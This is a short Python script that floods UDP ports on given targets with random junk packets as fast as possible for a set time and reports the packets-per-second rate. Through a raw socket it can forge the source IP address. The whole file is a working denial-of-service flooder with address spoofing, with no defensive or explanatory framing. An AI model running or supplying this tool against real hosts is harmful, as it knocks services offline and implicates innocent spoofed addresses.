"""Sends junk to UDP ports as fast as it can: flood.py SECONDS SOURCE TARGET:PORT... Prints how many packets a second it sent.

SOURCE is the address that the packets claim to come from; "own" for this machine's."""

import os
import socket
import struct
import sys
import time

JUNK = os.urandom(100)


def packet(source, target, port):
    """IPv4 and UDP without a checksum; the kernel fills in the rest of the IPv4 header (raw(7))."""
    udp = struct.pack("!HHHH", port, port, 8 + len(JUNK), 0) + JUNK
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0)
    return header + socket.inet_aton(source) + socket.inet_aton(target) + udp


def main(seconds, source, *targets):
    places = [(address, int(port)) for address, _, port in (target.partition(":") for target in targets)]
    if source == "own":
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sent = [(JUNK, place) for place in places]
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        sent = [(packet(source, *place), (place[0], 0)) for place in places]
    count, ends_at = 0, time.monotonic() + float(seconds)
    while time.monotonic() < ends_at:
        for _ in range(50):
            for text, place in sent:
                sock.sendto(text, place)
        count += 50 * len(sent)
    print(round(count / float(seconds)))


main(*sys.argv[1:])
